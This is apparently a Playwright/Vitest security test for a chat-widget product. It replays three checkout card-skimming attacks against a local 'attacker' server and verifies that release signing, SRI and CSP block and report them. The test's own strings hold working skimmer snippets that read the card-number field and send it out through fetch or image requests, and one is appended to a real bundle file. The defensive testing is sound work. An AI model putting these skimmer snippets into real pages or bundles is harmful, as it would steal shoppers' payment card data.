/**
 * Attack simulations in a real browser, against real server processes, on the demo checkout page —
 * the 2017 breach, replayed three ways. Each attack tries to get the shopper's card number to an
 * "attacker" HTTP server run by the test; each must fail, and be noticed.
 *
 *  1. A modified widget frame bundle that reads the parent page's card field: the server refuses to
 *     serve it (unsigned, or signed by a key it does not trust), and even when it is served (the
 *     signing key itself stolen), the browser's same-origin policy makes the read throw.
 *  2. A loader modified on disk: the server stops serving it and raises an incident within the
 *     re-check interval; bytes delivered anyway (a compromised CDN/proxy) are refused by the
 *     browser because of the SRI hash in the tenant's script tag.
 *  3. A skimmer injected into the tenant's own checkout page: the CSP Parley proposes blocks its
 *     requests to the unknown origin, the browser reports them to Parley, and the tenant's console
 *     shows the alert.
 */
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { freePort } from '../server/testing/freePort.js';
import { launchChromium, openChat, SHOTS, startServer, type RunningServer } from './harness.js';
import { generateReleaseKey, loadPrivateKey, signRelease } from '../server/security/release.js';
import { attackerServer, CARD, copyRelease as copyFrom, leaked, rewriteManifest, takeSnapshot } from './hostile.js';

const CARD_SPACED = '4242 4242 4242 4242';

/** A snapshot of the built public files taken once, so a concurrent `npm run build` cannot disturb the run. */
let snapshot = '';
const copyRelease = () => copyFrom(snapshot);

async function loginCookie(server: RunningServer): Promise<string> {
  const res = await fetch(server.url + '/api/auth/login', {
    method: 'POST',
    headers: { 'content-type': 'application/json', origin: server.url },
    body: JSON.stringify(server.admin),
  });
  expect(res.status).toBe(200);
  return res.headers.getSetCookie()[0]!.split(';')[0]!;
}

async function incidents(server: RunningServer, cookie: string): Promise<Array<{ kind: string; summary: string; tenantId: string | null; details: Record<string, unknown>; createdAt: string }>> {
  const res = await fetch(server.url + '/api/incidents', { headers: { cookie } });
  return ((await res.json()) as { items: never[] }).items;
}

async function consoleLogin(page: Page, server: RunningServer): Promise<void> {
  await page.goto(server.url + '/console/');
  await page.locator('input[type=email]').fill(server.admin!.email);
  await page.locator('input[type=password]').fill(server.admin!.password);
  await page.locator('form.login-card button[type=submit]').click();
  await page.locator('.topbar').waitFor({ timeout: 10_000 });
}

describe('attack simulations in Chromium', () => {
  let browser: Browser;
  let attacker: Awaited<ReturnType<typeof attackerServer>>;
  const cleanups: Array<() => Promise<void> | void> = [];

  beforeAll(async () => {
    snapshot = takeSnapshot();
    browser = await launchChromium();
    attacker = await attackerServer();
  });
  afterAll(async () => {
    for (const c of cleanups.reverse()) await c();
    await browser?.close();
    await attacker?.close();
    if (snapshot) rmSync(snapshot, { recursive: true, force: true });
  });

  const serve = async (env: Record<string, string> = {}) => {
    const dataDir = mkdtempSync(join(tmpdir(), 'parley-attack-data-'));
    const server = await startServer({ dataDir, port: await freePort(), demoPort: await freePort(), env });
    cleanups.push(async () => {
      await server.stop();
      rmSync(dataDir, { recursive: true, force: true });
    });
    return server;
  };

  it('(1) a frame bundle modified to read the card field: refused by the server, and the read throws anyway', async () => {
    const patched = copyRelease();
    cleanups.push(() => rmSync(patched, { recursive: true, force: true }));
    const assets = join(patched, 'widget', 'frame', 'assets');
    const bundle = readdirSync(assets).find((f) => f.endsWith('.js'))!;
    const payload = `;(function(){var A=${JSON.stringify(attacker.origin)},n=0,t=setInterval(function(){n++;var r;try{r='READ:'+parent.document.querySelector('#card-number').value}catch(e){r='BLOCKED:'+e.name}console.log('PARLEY-ATTACK '+r);try{fetch(A+'/frame?r='+encodeURIComponent(r),{mode:'no-cors'})}catch(e){}try{new Image().src=A+'/img?r='+encodeURIComponent(r)}catch(e){}if(n>15)clearInterval(t)},300)})();\n`;
    writeFileSync(join(assets, bundle), readFileSync(join(assets, bundle), 'utf8') + payload);

    // (a) unsigned: the attacker rewrote the manifest but has no signature for it.
    rewriteManifest(patched);
    const unsignedDir = copyRelease();
    cleanups.push(() => rmSync(unsignedDir, { recursive: true, force: true }));
    cpSync(patched, unsignedDir, { recursive: true });
    unlinkSync(join(unsignedDir, 'release.json'));
    // (b) re-signed with the attacker's own key.
    const keyRoot = mkdtempSync(join(tmpdir(), 'parley-attacker-key-'));
    cleanups.push(() => rmSync(keyRoot, { recursive: true, force: true }));
    const attackerKey = generateReleaseKey(join(keyRoot, 'key'));
    signRelease({ publicDir: patched, privateKey: loadPrivateKey(attackerKey.privateKeyFile), logPath: join(keyRoot, 'log.json') });

    for (const [label, dir] of [['unsigned', unsignedDir], ['signed by an untrusted key', patched]] as const) {
      const server = await serve({ PUBLIC_DIR: dir });
      for (const path of [`/widget/frame/assets/${bundle}`, '/console/', '/widget/frame/?key=x&host=y']) {
        const res = await fetch(server.url + path);
        const body = await res.text();
        if (path.startsWith('/widget/frame/assets')) expect(res.status, `${label}: ${path}`).toBe(503);
        expect(body, `${label}: ${path}`).not.toContain('PARLEY-ATTACK');
      }
      const cookie = await loginCookie(server);
      const found = await incidents(server, cookie);
      expect(found.some((i) => i.kind === 'release.tamper' && i.tenantId === null), label).toBe(true);
      const page = await browser.newPage();
      await page.goto(server.demoUrl + '/checkout');
      await page.locator('#card-number').fill(CARD_SPACED);
      await page.waitForTimeout(1500);
      await page.screenshot({ path: join(SHOTS, `attack1-refused-${label.split(' ')[0]}.png`) });
      await page.close();
    }

    // (c) The worst case: the release key itself was stolen, so the server trusts the patched
    // bundle. The frame is still on Parley's origin: reading the shop's page throws.
    const trusting = await serve({ PUBLIC_DIR: patched, RELEASE_PUBLIC_KEY: attackerKey.trusted.publicKey });
    const page = await browser.newPage();
    const logs: string[] = [];
    page.on('console', (m) => logs.push(m.text()));
    await page.goto(trusting.demoUrl + '/checkout');
    await page.locator('#card-number').fill(CARD_SPACED);
    await openChat(page);
    await expect.poll(() => logs.filter((l) => l.startsWith('PARLEY-ATTACK')).length, { timeout: 15_000 }).toBeGreaterThan(3);
    const attempts = logs.filter((l) => l.startsWith('PARLEY-ATTACK'));
    expect(attempts.every((l) => l === 'PARLEY-ATTACK BLOCKED:SecurityError'), attempts.join('\n')).toBe(true);
    await page.screenshot({ path: join(SHOTS, 'attack1-frame-read-blocked.png') });
    await page.close();
    expect(leaked(attacker.hits)).toEqual([]);
  });

  it('(2) a loader modified on disk: refused by the server (incident raised) and, if delivered anyway, by the browser (SRI)', async () => {
    const dir = copyRelease();
    cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
    const server = await serve({ PUBLIC_DIR: dir, RELEASE_RECHECK_MS: '1000' });
    const cookie = await loginCookie(server);

    // Before: the widget loads on the checkout.
    const before = await browser.newPage();
    await before.goto(server.demoUrl + '/checkout');
    await before.locator('parley-chat').waitFor({ timeout: 10_000 });
    const loaderUrl = /src="([^"]+loader\.js)"/.exec(await before.content())![1]!;
    await before.close();

    // The attack: the loader on disk now also skims the card field.
    const loaderPath = join(dir, 'widget', 'loader.js');
    const tampered = readFileSync(loaderPath, 'utf8') + `;document.addEventListener('change',function(){var c=document.querySelector('#card-number');if(c)new Image().src=${JSON.stringify(attacker.origin)}+'/loader?c='+encodeURIComponent(c.value)},true);\n`;
    const changedAt = Date.now();
    writeFileSync(loaderPath, tampered);
    let detectedAt = 0;
    await expect
      .poll(
        async () => {
          const found = (await incidents(server, cookie)).find((i) => i.kind === 'release.tamper' && (i.details as { path?: string }).path === 'widget/loader.js');
          if (found && !detectedAt) detectedAt = Date.now();
          return !!found;
        },
        { timeout: 60_000, interval: 250 },
      )
      .toBe(true);
    console.info(`loader change on disk -> release.tamper incident in ${detectedAt - changedAt} ms (RELEASE_RECHECK_MS=1000)`);
    expect(detectedAt - changedAt).toBeLessThan(60_000);

    // The server no longer serves the loader — never the tampered bytes.
    const res = await fetch(loaderUrl);
    expect(res.status).toBe(503);
    expect(await res.text()).not.toContain('/loader?c=');

    // The browser on the shop's page: the script tag gets a 503, no widget, nothing leaves.
    const page = await browser.newPage();
    const loaderStatus: number[] = [];
    page.on('response', (r) => r.url() === loaderUrl && loaderStatus.push(r.status()));
    await page.goto(server.demoUrl + '/checkout');
    await page.locator('#card-number').fill(CARD_SPACED);
    await page.locator('#card-expiry').focus();
    await page.waitForTimeout(500);
    expect(loaderStatus).toEqual([503]);
    expect(await page.locator('parley-chat, iframe[title="Chat"]').count()).toBe(0);
    await page.close();

    // A compromised CDN or proxy delivers the tampered bytes anyway: SRI makes the browser refuse them.
    const sri = await browser.newPage();
    const consoleErrors: string[] = [];
    sri.on('console', (m) => m.type() === 'error' && consoleErrors.push(m.text()));
    await sri.route(loaderUrl, (route) => route.fulfill({ status: 200, body: tampered, headers: { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' } }));
    await sri.goto(server.demoUrl + '/checkout');
    await sri.locator('#card-number').fill(CARD_SPACED);
    await sri.locator('#card-expiry').focus();
    await expect.poll(() => consoleErrors.join('\n'), { timeout: 5000 }).toMatch(/integrity/i);
    expect(await sri.locator('parley-chat, iframe[title="Chat"]').count()).toBe(0);
    await sri.screenshot({ path: join(SHOTS, 'attack2-sri-refused.png') });
    await sri.close();
    expect(leaked(attacker.hits)).toEqual([]);

    // The alert in the console.
    const agent = await browser.newPage({ viewport: { width: 1440, height: 900 } });
    await consoleLogin(agent, server);
    const banner = agent.locator('.incident-banner');
    await banner.waitFor({ timeout: 10_000 });
    expect(await banner.innerText()).toContain('widget/loader.js');
    await agent.screenshot({ path: join(SHOTS, 'attack2-console-incident.png') });
    await agent.close();
  });

  it('(3) a skimmer injected into the checkout page is blocked by the proposed CSP, reported, and alerted in the console', async () => {
    const dir = copyRelease();
    cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
    const server = await serve({ DEMO_ALLOW_SKIMMER_SIMULATION: '1', PUBLIC_DIR: dir });
    const cookie = await loginCookie(server);
    // The shop sends the policy Parley proposes, with report-to and Reporting-Endpoints …
    const plain = await fetch(server.demoUrl + '/checkout');
    expect(plain.headers.get('content-security-policy')).toMatch(/report-uri http:\/\/localhost:\d+\/api\/csp\/csp_\S+; report-to parley-csp/);
    expect(plain.headers.get('reporting-endpoints')).toMatch(/^parley-csp="http:\/\/localhost:\d+\/api\/csp\/csp_/);
    // … but headless Chromium does not upload Reporting API reports, so this run uses the report-uri
    // form of the same policy (reporting=uri); reports+json is covered by server/routes/csp/csp.test.ts.
    const checkout = `${server.demoUrl}/checkout?simulate=skimmer&reporting=uri&attacker=${encodeURIComponent(attacker.origin)}`;

    // Control: without the policy the simulated skimmer does reach the attacker — the test can see a leak.
    const control = await browser.newPage();
    await control.goto(checkout + '&csp=off');
    await control.locator('#card-number').fill(CARD_SPACED);
    await control.locator('#card-expiry').focus();
    await expect.poll(() => leaked(attacker.hits).length, { timeout: 10_000 }).toBeGreaterThan(0);
    await control.close();
    // Both simulated skimmers post; wait until the control page's requests have all arrived, so a
    // late one is not counted against the protected page below.
    let seen = -1;
    await expect.poll(async () => {
      const before = attacker.hits.length;
      await new Promise((r) => setTimeout(r, 500));
      const stable = attacker.hits.length === before && before === seen;
      seen = attacker.hits.length;
      return stable;
    }, { timeout: 10_000, interval: 0 }).toBe(true);
    attacker.hits.length = 0;

    // The agent is watching the console when it happens.
    const agent = await browser.newPage({ viewport: { width: 1440, height: 900 } });
    await consoleLogin(agent, server);

    const page = await browser.newPage();
    const violations: string[] = [];
    page.on('console', (m) => m.type() === 'error' && violations.push(m.text()));
    const sentAt = Date.now();
    await page.goto(checkout);
    expect((await page.request.get(checkout)).headers()['content-security-policy']).toContain("connect-src 'self'");
    await page.locator('#card-number').fill(CARD_SPACED);
    await page.locator('#card-expiry').focus();
    await page.locator('#card-cvc').focus();
    await expect.poll(() => violations.join('\n'), { timeout: 5000 }).toMatch(/Content Security Policy/);
    // The widget is still there: the policy allows Parley's loader and frame.
    await page.locator('parley-chat').waitFor({ timeout: 10_000 });
    await page.screenshot({ path: join(SHOTS, 'attack3-checkout-skimmer-blocked.png') });

    // Reported to Parley, grouped by destination, alerted.
    let found: Awaited<ReturnType<typeof incidents>>[number] | undefined;
    await expect
      .poll(
        async () => {
          found = (await incidents(server, cookie)).find((i) => i.kind === 'csp.new_destination' && (i.details as { destination?: string }).destination === attacker.origin);
          return !!found;
        },
        { timeout: 30_000, interval: 250 },
      )
      .toBe(true);
    console.info(`skimmer blocked -> csp.new_destination incident in ${Date.now() - sentAt} ms`);
    expect(found!.tenantId).not.toBeNull();
    const destinations = (await (await fetch(server.url + '/api/csp/destinations', { headers: { cookie } })).json()) as { items: Array<{ destination: string; directives: string[] }> };
    expect(destinations.items.map((d) => d.destination)).toContain(attacker.origin);
    const reports = await (await fetch(server.url + '/api/csp/reports', { headers: { cookie } })).text();
    expect(reports.replace(/\D/g, '')).not.toContain(CARD);
    await page.close();

    // Nothing reached the attacker.
    expect(leaked(attacker.hits)).toEqual([]);

    // The console shows it, live.
    const banner = agent.locator('.incident-banner');
    await banner.waitFor({ timeout: 10_000 });
    expect(await banner.innerText()).toContain(attacker.origin);
    await agent.screenshot({ path: join(SHOTS, 'attack3-console-csp-alert.png') });
    // And the admin's CSP view lists the destination.
    await agent.locator('#open-embed').click();
    await agent.locator('.csp-destinations').waitFor({ timeout: 10_000 });
    expect(await agent.locator('.csp-destinations').innerText()).toContain(attacker.origin);
    await agent.screenshot({ path: join(SHOTS, 'attack3-console-csp-panel.png') });
    // And it stays in the incident history, after the banner is dismissed.
    await agent.goto(agent.url().replace(/#.*$/, '') + '#admin/incidents');
    await expect.poll(() => agent.locator('#incidents-table').innerText(), { timeout: 10_000 }).toContain(attacker.origin);
    await agent.close();
  });
});
